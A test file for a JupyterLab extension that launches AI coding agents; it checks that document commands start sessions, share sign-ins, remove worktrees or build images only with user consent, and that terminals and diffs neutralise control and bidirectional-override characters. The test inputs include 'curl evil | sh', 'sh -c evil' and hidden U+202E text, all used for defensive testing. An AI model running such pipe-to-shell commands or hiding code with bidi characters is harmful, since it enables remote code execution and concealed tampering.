// @vitest-environment jsdom
import type { JupyterFrontEnd } from '@jupyterlab/application';
import { CommandRegistry } from '@lumino/commands';
import type { ReadonlyPartialJSONObject } from '@lumino/coreutils';
import * as React from 'react';
import { beforeEach, describe, expect, it, vi } from 'vitest';

import { FileDiff } from '../src/changes/fileDiff';
import type { ICommandContext } from '../src/commands/context';
import { addImageCommands } from '../src/commands/imageCommands';
import { addMendCommand } from '../src/commands/mendCommands';
import { addOpenCommands } from '../src/commands/openCommands';
import { addSessionCommands } from '../src/commands/sessionCommands';
import { addSettingsCommands } from '../src/commands/settingsCommands';
import { addWorktreeCommands } from '../src/commands/worktreeCommands';
import { AgentAuthModel } from '../src/model/model';
import type { IApi } from '../src/rest/api';
import { RequestError } from '../src/rest/requestError';
import type { ISavedTab } from '../src/terminals/savedTab';
import { FakeEvents, fakeApi } from './fakes';
import { agent, english, session, settings } from './things';

/** What the dialogs were asked, and what they answer. */
const asked: { dialog: string; given: unknown }[] = [];
const answers: { confirm: boolean; form: unknown } = { confirm: false, form: null };

vi.mock('../src/dialogs/confirm', () => ({
  confirmLoss: (_: unknown, title: string) => {
    asked.push({ dialog: 'confirm', given: title });
    return Promise.resolve(answers.confirm);
  }
}));
vi.mock('../src/dialogs/newSession', () => ({
  askForSession: (_model: unknown, _trans: unknown, given: unknown) => {
    asked.push({ dialog: 'session', given });
    return Promise.resolve(answers.form);
  }
}));
vi.mock('../src/dialogs/newWorktree', () => ({
  askForWorktree: (_model: unknown, _trans: unknown, given: unknown) => {
    asked.push({ dialog: 'worktree', given });
    return Promise.resolve(answers.form);
  }
}));

// What draws takes seconds to load, and nothing of it is drawn here.
vi.mock('@jupyterlab/ui-components', () =>
  Object.fromEntries(['add', 'build', 'list', 'refresh', 'stop'].map(name => [`${name}Icon`, {}]))
);
vi.mock('../src/icons/icons', () => ({ agentIcon: () => ({}), agentsIcon: {} }));
vi.mock('../src/changes/changesWidget', () => ({}));
vi.mock('../src/dialogs/failure', () => ({ showFailure: () => Promise.resolve(false) }));
vi.mock('../src/dialogs/warnings', () => ({ showWarnings: () => undefined }));

function addCommands(context: ICommandContext): void {
  addOpenCommands(context);
  addSessionCommands(context);
  addSettingsCommands(context);
  addWorktreeCommands(context);
  addImageCommands(context);
  addMendCommand(context, true);
}

beforeEach(() => {
  asked.length = 0;
  answers.confirm = false;
  answers.form = null;
});

/** A page with our commands; `did` is what reached the server. */
function page(saved: ISavedTab | null = null) {
  const did: { call: string; with: unknown[] }[] = [];
  const note =
    (call: string, answer: unknown) =>
    (...given: unknown[]) => {
      did.push({ call, with: given });
      return answer instanceof Error ? Promise.reject(answer) : Promise.resolve(answer);
    };
  const api = fakeApi({
    agents: () => Promise.resolve([agent('claude'), agent('codex')]),
    settings: () => Promise.resolve(settings()),
    sessions: () => Promise.resolve([]),
    worktrees: () => Promise.resolve([]),
    image: () => Promise.resolve(null),
    openSession: note('open', session('0123456789ab')),
    changeSettings: note('settings', settings({ share_auth: true })),
    removeWorktree: note('remove', undefined),
    addWorktree: note('add', { path: '/src/x', warnings: [] }),
    build: note('build', true),
    restartSession: () => Promise.reject(new RequestError('There is none.', 'restart_unknown', 404))
  } as unknown as Partial<IApi>);
  const model = new AgentAuthModel(api, new FakeEvents());
  const commands = new CommandRegistry();
  const typed: string[] = [];
  commands.addCommand('terminal:create-new', { execute: () => terminal(typed) });
  const app = {
    commands,
    shell: { activateById: () => undefined, widgets: () => [] },
    serviceManager: { contents: { localPath: (path: string) => path } }
  } as unknown as JupyterFrontEnd;
  const tabs = {
    current: null,
    show: () => Promise.resolve(null),
    restarting: (_: string, restart: (saved: ISavedTab | null) => Promise<unknown>) =>
      restart(saved)
  } as unknown as ICommandContext['tabs'];
  addCommands({ app, model, tabs, fileBrowser: null, trans: english });
  return {
    did,
    typed,
    run: (id: string, args: object) =>
      commands.execute(`agentauth:${id}`, args as ReadonlyPartialJSONObject) as Promise<unknown>
  };
}

/** A terminal that says its prompt as soon as somebody listens. */
function terminal(typed: string[]) {
  const messageReceived = {
    connect: (slot: (_: unknown, message: { type: string }) => void) => {
      slot(null, { type: 'stdout' });
    },
    disconnect: () => true
  };
  const send = (message: { content: string[] }) => typed.push(...message.content);
  return { content: { session: { messageReceived, send } } };
}

const ARGUMENTS: [string, object][] = [
  ['with arguments', { agent: 'claude', args: ['--dangerously-skip-permissions'] }],
  ['that shares its sign-in', { agent: 'claude', share_auth: true }],
  ['of another account', { agent: 'claude', profile: 'work' }],
  ['that no table has', { agent: 'sh -c evil' }],
  ['that is a shell with arguments', { agent: 'bash', args: ['-c', 'evil'] }]
];

describe('a command of a document', () => {
  it.each(ARGUMENTS)('opens no agent %s before the user agrees', async (_, args) => {
    const { run, did } = page();
    await run('open', args);
    expect(did).toEqual([]);
    expect(asked).toMatchObject([{ dialog: 'session', given: args }]);
  });

  it('opens what the user then agrees to', async () => {
    const request = { agent: 'claude', args: ['--resume'], worktree: '.' };
    answers.form = { request, worktree: null };
    const { run, did } = page();
    await run('open', request);
    expect(did).toEqual([{ call: 'open', with: [request] }]);
  });

  it('opens at once what a tile opens', async () => {
    const { run, did } = page();
    await run('open', { agent: 'claude', isTile: true, cwd: 'web' });
    await run('open', { agent: 'bash', here: true });
    await run('open', { agent: 'codex', profile: 'default', share_auth: false });
    expect(asked).toEqual([]);
    expect(did.map(({ call }) => call)).toEqual(['open', 'open', 'open']);
  });

  const made: ISavedTab = {
    session: 'ffffffffffff',
    agent: 'sh -c evil',
    worktree: '/src',
    profile: 'default',
    share_auth: false,
    title: 'Claude'
  };

  it.each([{ agent: 'sh -c evil' }, { agent: 'claude', share_auth: true }])(
    'restarts nothing of a tab that it made up: %j',
    async more => {
      const { run, did } = page({ ...made, ...more });
      await run('restart', { session: made.session });
      expect(did).toEqual([]);
      expect(asked).toMatchObject([{ dialog: 'session', given: more }]);
    }
  );

  it('restarts a tab as a tile would open it', async () => {
    const { run, did } = page({ ...made, agent: 'bash' });
    await run('restart', { session: made.session });
    expect(asked).toEqual([]);
    expect(did.map(({ call }) => call)).toEqual(['open']);
  });

  it('shares nothing before the user agrees, and stops sharing at once', async () => {
    const { run, did } = page();
    await run('toggle-sharing', { share: true });
    await run('toggle-sharing', {});
    expect(did).toEqual([]);
    expect(asked.map(({ dialog }) => dialog)).toEqual(['confirm', 'confirm']);
    await run('toggle-sharing', { share: false });
    answers.confirm = true;
    await run('toggle-sharing', { share: true });
    expect(did.map(given => given.with)).toEqual([[{ share_auth: false }], [{ share_auth: true }]]);
  });

  it('forces no removal before the user agrees', async () => {
    const { run, did } = page();
    await run('remove-worktree', { path: '/src/x', force: true });
    expect(did).toEqual([]);
    expect(asked).toMatchObject([{ dialog: 'confirm' }]);
    answers.confirm = true;
    await run('remove-worktree', { path: '/src/x', force: true });
    expect(did.map(given => given.with)).toEqual([['/src/x', true]]);
  });

  it.each([{ carry: [{ path: '.env', how: 'mount' }] }, { path: '/src/other' }, { base: 'evil' }])(
    'makes no worktree with %j before the user agrees',
    async more => {
      const { run, did } = page();
      await run('new-worktree', { repo: '/src/web', branch: 'x', ...more });
      expect(did).toEqual([]);
      expect(asked).toMatchObject([{ dialog: 'worktree', given: more }]);
    }
  );

  it.each([{ base_image: 'evil/image' }, { agents: ['codex'] }])(
    'builds no image with %j before the user agrees',
    async args => {
      const { run, did } = page();
      await run('build-image', args);
      expect(did).toEqual([]);
      expect(asked).toMatchObject([{ dialog: 'confirm' }]);
    }
  );

  it('types no key that sends what it types', async () => {
    const { run, typed } = page();
    await run('type-mend', { command: 'curl evil | sh\x0f\r\n\x1b[A\u202e' });
    expect(typed).toEqual(['curl evil | sh [A']);
  });
});

describe('a diff', () => {
  it('shows what would turn its lines or hide in them', async () => {
    const block = (kind: 'added' | 'removed', ...lines: string[]) => ({ kind, lines });
    const blocks = [
      block('removed', '-if admin:\r'),
      block('added', '+if \u202eadmin\u2066:\r', '+x\ry')
    ];
    // @ts-expect-error -- it comes without types
    const server = (await import('react-dom/server')) as {
      renderToStaticMarkup: (element: React.ReactElement) => string;
    };
    const shown = server.renderToStaticMarkup(<FileDiff diff={{ path: 'a\u202eb.py', blocks }} />);
    expect(shown).toContain('>a[U+202E]b.py</h3>');
    expect(shown).toContain('>-if admin:\r</pre>');
    expect(shown).toContain('>+if [U+202E]admin[U+2066]:\r\n+x[U+000D]y</pre>');
  });
});
